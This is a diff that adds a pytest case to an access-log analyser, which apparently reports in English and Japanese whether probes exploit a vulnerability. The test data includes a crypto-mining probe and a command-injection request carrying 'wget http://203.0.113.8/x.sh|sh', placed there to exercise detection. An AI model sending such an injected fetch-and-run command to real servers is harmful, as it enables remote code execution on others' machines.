@@ -86,3 +86,31 @@ def test_a_logon_after_guessing_is_told_as_a_logon(kanaria: Kanaria, tmp_path: P
     assert "A logon after the failures seems to have succeeded" in said.words
     assert "ログインに成功したとみられます" in said.words
     assert "fits a program that runs" not in said.words and "実際に動いているとみられます" not in said.words
+
+
+@pytest.mark.parametrize(
+    ("more", "uses_nothing"), [("", True), ("/cgi-bin/test.cgi?x=;wget+http://203.0.113.8/x.sh|sh", False)]
+)
+def test_who_sends_a_command_beside_a_mining_message_is_not_said_to_use_nothing(
+    kanaria: Kanaria, tmp_path: Path, more: str, uses_nothing: bool
+) -> None:
+    lines = [
+        f'{STRANGER} - - {WHEN} "{{\\x22id\\x22:1,\\x22method\\x22:\\x22mining.subscribe\\x22,\\x22params\\x22:[]}}" 400 157 "-" "-"'
+    ]
+    lines += [f'{STRANGER} - - {WHEN} "GET {more} HTTP/1.1" 404 157 "-" "-"'] if more else []
+    (tmp_path / "access.log").write_text("\n".join(lines) + "\n")
+    words = {
+        "en": ("uses a vulnerability", "No vulnerability is involved", "no known vulnerability (CVE)"),
+        "ja": (
+            "脆弱性を利用する通信はありません",
+            "脆弱性は関係していません",
+            "特定の脆弱性(CVE)に対応するものはありません",
+        ),
+    }
+    for language, (nothing, story, unnamed) in words.items():
+        for style in ("report", "story"):
+            said = kanaria("analyze", "--lang", language, "--style", style, "access.log").out
+            said = "".join(said.split()) if language == "ja" else " ".join(said.split())
+            assert (nothing in said or story in said, style == "report" and unnamed in said) == (
+                uses_nothing, style == "report" and not uses_nothing,
+            )  # fmt: skip
